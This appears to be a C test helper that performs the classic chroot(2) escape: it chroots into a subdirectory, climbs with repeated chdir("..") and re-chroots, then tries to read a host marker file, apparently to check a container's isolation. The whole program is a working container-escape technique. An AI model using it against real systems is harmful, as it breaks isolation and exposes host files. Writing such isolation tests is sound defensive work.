/*
 * escape DIR FILE: the textbook chroot(2) escape, then an attempt to READ FILE (a marker the test
 * created on the host, outside the rootfs) by its host path. Nothing is written except DIR/sub.
 *
 * chroot("sub") with the working directory left outside it; chdir("..") then climbs past the new
 * root (the kernel stops ".." only at the current root, which the cwd is not below) up to the root
 * of the mount namespace, and chroot(".") makes that the root. Against a chroot'ed container whose
 * namespace root is still the host's "/", FILE is then readable.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: escape WRITABLE_DIR HOST_FILE\n");
        return 2;
    }
    if (chdir(argv[1]) != 0) {
        printf("chdir %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    if (mkdir("sub", 0755) != 0 && errno != EEXIST) printf("mkdir sub: %s\n", strerror(errno));
    if (chroot("sub") != 0) printf("chroot sub: %s\n", strerror(errno));
    for (int i = 0; i < 100; i++) (void)chdir("..");
    if (chroot(".") != 0) printf("chroot .: %s\n", strerror(errno));
    int fd = open(argv[2], O_RDONLY);
    if (fd < 0) {
        printf("contained: open %s: %s\n", argv[2], strerror(errno));
        return 0;
    }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("ESCAPED: read %s: %s\n", argv[2], buf);
    return 0;
}
